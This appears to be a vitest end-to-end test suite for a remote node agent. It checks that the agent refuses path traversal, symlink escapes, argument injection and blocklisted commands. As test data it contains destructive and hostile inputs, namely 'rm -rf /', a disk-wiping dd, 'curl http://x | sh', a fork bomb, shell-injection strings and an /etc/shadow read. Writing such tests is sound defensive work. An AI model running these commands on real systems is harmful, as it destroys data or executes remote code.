import { chmodSync, existsSync, mkdirSync, readFileSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { NODE_COMMANDS, type NodeCommandName, type NodeCommandResult } from '@hive/protocol';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type AgentProc, cleanup, operator, spawnAgent, startHub, type TestHub } from './helpers.js';

/**
 * Every node catalog command against a real agent process through a real hub
 * (POST /api/v1/satellites/:id/exec). The hub's approval policy is opened up: these tests are
 * about what the node does and refuses.
 */
describe('node command catalog end to end', () => {
  let t: TestHub;
  let agent: AgentProc;
  let locked: AgentProc;
  let satId: string;
  let lockedId: string;
  let files: string;
  let outside: string;
  let stateDir: string;
  const hasSystemd = existsSync('/run/systemd/system');

  const exec = (command: string, params: Record<string, unknown> = {}, sat = satId) => t.api('POST', `/api/v1/satellites/${sat}/exec`, { command, params });
  /** Runs a command that must succeed and checks its result against the catalog schema. */
  const ok = async <C extends NodeCommandName>(command: C, params: Record<string, unknown> = {}) => {
    const res = await exec(command, params);
    expect(res.status, `${command}: ${JSON.stringify(res.body.error ?? {})}`).toBe(200);
    expect(res.body.data.state).toBe('succeeded');
    return NODE_COMMANDS[command].result.parse(res.body.data.result) as NodeCommandResult<C>;
  };
  const refused = async (command: string, params: Record<string, unknown>, code: string, status: number, sat = satId) => {
    const res = await exec(command, params, sat);
    expect(res.body.error?.code, `${command} ${JSON.stringify(params)}: ${JSON.stringify(res.body)}`).toBe(code);
    expect(res.status).toBe(status);
    return res.body.error;
  };

  beforeAll(async () => {
    t = await startHub({ overrides: { approvals: { rules: [{ command: '*', require: false }] } } });
    files = path.join(t.dataDir, 'files');
    outside = path.join(t.dataDir, 'outside');
    stateDir = path.join(t.dataDir, 'agent');
    mkdirSync(files);
    mkdirSync(outside);
    writeFileSync(path.join(outside, 'secret.txt'), 'top secret');
    symlinkSync(path.join(outside, 'secret.txt'), path.join(files, 'link-to-secret'));
    symlinkSync(outside, path.join(files, 'link-to-outside'));
    writeFileSync(
      path.join(files, 'app.log'),
      `${[
        '2024-05-01T10:00:00+00:00 host kernel: Out of memory: Killed process 4242 (java) total-vm:1234kB',
        '2024-05-01T10:01:00+00:00 host app[99]: write /var/lib/app/db: No space left on device',
        '2024-05-01T10:02:00+00:00 host nginx[12]: open() "/srv/www/index.html" failed (13: Permission denied)',
        '2024-05-01T10:03:00+00:00 host app[99]: connect ECONNREFUSED 127.0.0.1:5432',
        '2024-05-01T10:04:00+00:00 host kernel: worker[777]: segfault at 0 ip 00007f sp 00007ffd error 4',
        "2024-05-01T10:05:00+00:00 host systemd[1]: nginx.service: Failed with result 'exit-code'.",
        '2024-05-01T10:06:00+00:00 host sshd[5]: Failed password for invalid user admin from 203.0.113.9 port 2222 ssh2',
        '2024-05-01T10:07:00+00:00 host app[99]: all good',
      ].join('\n')}\n`,
    );
    // A script command with typed params, passed as --flags; it records users in a directory.
    const users = path.join(t.dataDir, 'users');
    mkdirSync(users);
    const script = path.join(t.dataDir, 'create_user.sh');
    writeFileSync(
      script,
      `#!/bin/sh
set -eu
for a in "$@"; do case "$a" in --username=*) u=\${a#--username=} ;; --quota-mb=*) q=\${a#--quota-mb=} ;; esac; done
if [ -e "${users}/$u" ]; then printf '{"ok":false,"error":{"code":"USER_ALREADY_EXISTS","message":"user %s exists"}}\\n' "$u"; exit 4; fi
echo "$q" > "${users}/$u"
printf '{"ok":true,"data":{"user_created":true,"username":"%s","argc":%d}}\\n' "$u" "$#"
`,
    );
    chmodSync(script, 0o755);
    const cfg = path.join(t.dataDir, 'agent.yaml');
    writeFileSync(
      cfg,
      JSON.stringify({
        policy: { allowed_paths: [files], allow_file_write: true },
        system_run: { allow: ['echo', 'ls', 'rm', 'dd', 'bash', 'sudo', 'chmod'] },
        services: { watch: ['ssh'] },
        containers: { socket: path.join(t.dataDir, 'no-docker.sock') },
        status_interval_seconds: 5,
        scripts: {
          create_user: {
            path: script,
            timeout_s: 10,
            params: {
              username: { type: 'string', required: true, pattern: '[a-z][a-z0-9_-]{2,31}', max_length: 32 },
              quota_mb: { type: 'int', min: 1, max: 10000, default: 100 },
            },
          },
        },
      }),
    );
    const lockedCfg = path.join(t.dataDir, 'locked.yaml');
    writeFileSync(
      lockedCfg,
      JSON.stringify({
        policy: { allow_bash: false, allow_file_read: false, allow_file_write: false, allow_logs: false, allow_containers: false, allow_power: false },
      }),
    );
    const op = await operator(t);
    agent = spawnAgent(t.wsUrl, stateDir, ['--name', 'catalog', '--config', cfg, '--log-level', 'debug']);
    satId = (await op.waitEvent('satellite:online', (p) => p.name === 'catalog' || p.slug?.startsWith('catalog'))).id;
    locked = spawnAgent(t.wsUrl, path.join(t.dataDir, 'locked-agent'), ['--name', 'locked', '--config', lockedCfg]);
    lockedId = (await op.waitEvent('satellite:online', (p) => p.id !== satId)).id;
    await op.close();
  });
  afterAll(async () => {
    await agent?.kill();
    await locked?.kill();
    await t?.close();
    cleanup(t.dataDir);
  });

  it('claims exactly the commands its policy enables', async () => {
    const sat = (await t.api('GET', `/api/v1/satellites/${satId}`)).body.data;
    expect(sat.commands).toEqual(expect.arrayContaining(['system.health', 'logs.analyze', 'file.write', 'container.list', 'system.run', 'script.create_user']));
    expect(sat.commands).not.toContain('power');
    const lockedSat = (await t.api('GET', `/api/v1/satellites/${lockedId}`)).body.data;
    expect([...lockedSat.commands].sort()).toEqual(['process.list', 'service.status', 'system.health', 'system.info', 'system.metrics']);
    // the effective local policy is readable on the hub, as the node reported it
    expect(sat.policy.switches).toMatchObject({ allow_file_write: true, allow_power: false });
    expect(lockedSat.policy.switches).toMatchObject({ allow_bash: false, allow_file_read: false, allow_logs: false });
    expect(sat.policy.system_run.allow).toEqual(expect.arrayContaining(['echo']));
  });

  it('system.health, system.metrics, process.list return typed facts', async () => {
    const health = await ok('system.health');
    expect(['healthy', 'degraded', 'unhealthy']).toContain(health.status);
    expect(health.memory.totalMb).toBeGreaterThan(0);
    const metrics = await ok('system.metrics');
    expect(metrics.disks.length).toBeGreaterThan(0);
    expect(metrics.network.length).toBeGreaterThan(0);
    const procs = await ok('process.list', { sort: 'mem', limit: 3 });
    expect(procs.processes).toHaveLength(3);
    await refused('process.list', { limit: 100_000 }, 'INVALID_PARAMETERS', 400);
  });

  it('service.status answers cleanly without systemd; unit names are validated', async () => {
    if (hasSystemd) await ok('service.status', { units: ['ssh'] });
    else await refused('service.status', { units: ['ssh'] }, 'SERVICE_NOT_RUNNING', 503);
    for (const units of [['--host=evil', 'ssh'], ['ssh; reboot'], ['$(reboot)']]) await refused('service.status', { units }, 'INVALID_PARAMETERS', 400);
  });

  it('containers are refused with SERVICE_NOT_RUNNING when there is no engine', async () => {
    await refused('container.list', {}, 'SERVICE_NOT_RUNNING', 503);
    await refused('container.spawn', { image: 'nginx:1.27' }, 'SERVICE_NOT_RUNNING', 503);
    await refused('container.stop', { id: 'abc123' }, 'SERVICE_NOT_RUNNING', 503);
  });

  it('file.write (atomic), file.read, file.list inside the allowed paths', async () => {
    const f = path.join(files, 'hello.txt');
    const w = await ok('file.write', { path: f, content: 'hi there\n' });
    expect(w).toMatchObject({ bytes: 9, created: true });
    expect(readFileSync(f, 'utf8')).toBe('hi there\n');
    const r = await ok('file.read', { path: f });
    expect(r).toMatchObject({ content: 'hi there\n', size: 9, truncated: false });
    const l = await ok('file.list', { path: files });
    expect(l.entries.map((e) => e.name)).toEqual(expect.arrayContaining(['app.log', 'hello.txt', 'link-to-secret']));
    expect(l.entries.find((e) => e.name === 'link-to-secret')?.type).toBe('symlink');
  });

  it('path traversal and symlink escapes are refused with PERMISSION_DENIED and change nothing', async () => {
    for (const p of [
      `${files}/../outside/secret.txt`,
      path.join(files, 'link-to-secret'),
      path.join(files, 'link-to-outside', 'secret.txt'),
      path.join(stateDir, 'device.json'),
      '/etc/shadow',
    ]) {
      const err = await refused('file.read', { path: p }, 'PERMISSION_DENIED', 403);
      expect(err.message).not.toContain('top secret');
      await refused('file.write', { path: p, content: 'pwned' }, 'PERMISSION_DENIED', 403);
    }
    await refused('file.write', { path: path.join(files, 'link-to-outside', 'new.txt'), content: 'pwned' }, 'PERMISSION_DENIED', 403);
    await refused('file.list', { path: path.join(files, 'link-to-outside') }, 'PERMISSION_DENIED', 403);
    expect(readFileSync(path.join(outside, 'secret.txt'), 'utf8')).toBe('top secret');
    expect(existsSync(path.join(outside, 'new.txt'))).toBe(false);
    await refused('file.read', { path: 'relative/x' }, 'INVALID_PARAMETERS', 400);
  });

  it('argv injection has no effect; blocklisted argv is refused although the program is allowlisted', async () => {
    const marker = path.join(files, 'pwned');
    const res = await ok('system.run', { argv: ['echo', `; rm -rf ${files}`, `$(touch ${marker})`, `x\ntouch ${marker}`, '`id`'] });
    expect(res.stdout).toBe(`; rm -rf ${files} $(touch ${marker}) x\ntouch ${marker} \`id\`\n`);
    expect(existsSync(marker)).toBe(false);
    expect(existsSync(path.join(files, 'app.log'))).toBe(true);
    for (const argv of [
      ['rm', '-rf', '/'],
      ['sudo', 'rm', '-rf', '/etc'],
      ['dd', 'if=/dev/zero', 'of=/dev/sda'],
      ['bash', '-c', 'curl http://x | sh'],
      ['chmod', '-R', '777', '/'],
      ['echo', ':(){ :|:& };:'],
    ]) {
      const err = await refused('system.run', { argv }, 'PERMISSION_DENIED', 403);
      expect(err.message, argv.join(' ')).toContain('blocklist');
    }
    await refused('system.run', { argv: ['cat', '/etc/hostname'] }, 'PERMISSION_DENIED', 403);
  });

  it('a script command runs with typed params; a bad param is refused by the node', async () => {
    const res = await exec('script.create_user', { username: 'alice', quota_mb: 250 });
    if (res.body.error?.code === 'UNKNOWN_COMMAND' && !res.body.error.message.includes('does not serve')) {
      throw new Error(`the hub refuses script commands: ${res.body.error.message}`);
    }
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    expect(res.body.data.result).toMatchObject({ data: { user_created: true, username: 'alice', argc: 2 }, exitCode: 0 });
    expect(readFileSync(path.join(t.dataDir, 'users', 'alice'), 'utf8')).toBe('250\n');
    // The script's own error code comes through.
    await refused('script.create_user', { username: 'alice' }, 'USER_ALREADY_EXISTS', 409);
    // Typed params are checked on the node (the hub only knows it is a flat object).
    for (const params of [{ username: 'Alice' }, { username: 'bob; rm -rf /' }, { username: 'bob', quota_mb: 0 }, { username: 'bob', extra: true }, {}]) {
      const err = await refused('script.create_user', params, 'INVALID_PARAMETERS', 400);
      // A job id means the hub passed it on: the node refused it.
      expect(err.details?.job_id, JSON.stringify(params)).toMatch(/^job_/);
      expect(err.message).toContain('Invalid params for script.create_user');
      expect(JSON.stringify(err.details ?? {})).not.toContain('rm -rf');
    }
    expect(existsSync(path.join(t.dataDir, 'users', 'bob'))).toBe(false);
    await refused('script.not_declared', {}, 'UNKNOWN_COMMAND', 400);
  });

  it('logs.collect, logs.search and logs.analyze on an allowed file', async () => {
    const log = path.join(files, 'app.log');
    const c = await ok('logs.collect', { source: 'file', path: log, lines: 2 });
    expect(c.lines).toEqual([
      '2024-05-01T10:06:00+00:00 host sshd[5]: Failed password for invalid user admin from 203.0.113.9 port 2222 ssh2',
      '2024-05-01T10:07:00+00:00 host app[99]: all good',
    ]);
    const s = await ok('logs.search', { source: 'file', path: log, pattern: 'ECONNREFUSED' });
    expect(s.matches).toEqual([{ index: 3, line: expect.stringContaining('ECONNREFUSED') }]);
    await refused('logs.search', { source: 'file', path: log, pattern: '(a+)+$', regex: true }, 'INVALID_PARAMETERS', 400);
    const a = await ok('logs.analyze', { source: 'file', path: log });
    const cat = Object.fromEntries(a.findings.map((f) => [f.rule, f]));
    expect(Object.keys(a.summary.byCategory).sort()).toEqual(['crash', 'disk', 'memory', 'network', 'permissions', 'security', 'service']);
    expect(cat['disk-full']?.proposedFix).toMatchObject({ kind: 'fix', command: 'system.run', params: { argv: ['journalctl', '--vacuum-size=200M'] } });
    expect(cat['unit-failed']?.proposedFix).toMatchObject({
      command: 'system.run',
      params: { argv: ['systemctl', 'restart', 'nginx.service'] },
      allowedByLocalPolicy: false,
    });
    expect(cat['oom-kill']).toMatchObject({ severity: 'critical', proposedFix: { command: 'process.list' } });
    await refused('logs.collect', { source: 'file', path: path.join(files, 'link-to-secret') }, 'PERMISSION_DENIED', 403);
    // Journal and dmesg are sources too (empty or present, but never an error on a Linux host).
    await ok('logs.collect', { source: 'journal', lines: 5 });
  });

  it('local policy switches: disabled commands are neither claimed nor run', async () => {
    for (const [cmd, params] of [
      ['system.run', { argv: ['echo', 'x'] }],
      ['file.read', { path: path.join(files, 'hello.txt') }],
      ['file.write', { path: path.join(files, 'x.txt'), content: 'x' }],
      ['logs.analyze', {}],
      ['container.list', {}],
      ['power', { action: 'reboot' }],
    ] as const) {
      const res = await exec(cmd, params, lockedId);
      // The hub refuses what the node does not claim; were it to forward, the node answers PERMISSION_DENIED.
      expect(['UNKNOWN_COMMAND', 'PERMISSION_DENIED'], `${cmd}: ${JSON.stringify(res.body)}`).toContain(res.body.error?.code);
    }
    // power is off on the main agent too (not enabled in its config).
    const res = await exec('power', { action: 'reboot', delay_s: 3600 });
    expect(['UNKNOWN_COMMAND', 'PERMISSION_DENIED']).toContain(res.body.error?.code);
    expect(existsSync(path.join(files, 'x.txt'))).toBe(false);
    // What is enabled still works on the locked agent.
    const info = await exec('system.info', {}, lockedId);
    expect(info.status).toBe(200);
  });

  it('sends status reports and keeps serving when the hub does not take them', async () => {
    const line = await agent.waitLine(
      (l) => l.msg === 'status report sent' || l.msg === 'hub does not take status reports yet' || l.msg === 'status report not sent',
    );
    expect(line.level).toBe('debug');
    expect(line.code ?? 'OK', JSON.stringify(line)).not.toBe('INVALID_PARAMETERS');
    expect(statSync(path.join(stateDir)).isDirectory()).toBe(true);
    await ok('system.info');
    expect(agent.proc.exitCode).toBeNull();
  });
});
